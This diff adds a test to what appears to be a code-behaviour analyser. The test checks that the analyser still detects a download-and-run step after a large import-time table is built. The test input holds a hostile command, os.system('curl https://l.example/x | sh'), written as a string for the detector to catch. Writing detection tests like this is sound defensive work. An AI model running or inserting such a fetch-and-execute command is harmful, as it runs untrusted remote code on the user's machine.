@@ -136,3 +136,12 @@ def test_a_list_that_grows_while_it_is_gone_through_is_gone_through_as_it_was() 
     )
     assert found.stopped == ""
     assert "runs-command" in {fact.behaviour for fact, _ in found.facts}
+
+
+def test_a_table_of_thousands_made_when_a_module_is_imported_leaves_time_for_what_comes_after_it() -> None:
+    found = followed(
+        "import os\nTABLE = {at: f'{at:x}\\r\\n'.encode('latin-1') for at in range(16384)}\n"
+        "os.system('curl https://l.example/x | sh')\n"
+    )
+    assert found.stopped == ""
+    assert "" in {root for fact, roots in found.facts if fact.behaviour == "runs-downloaded" for root in roots}
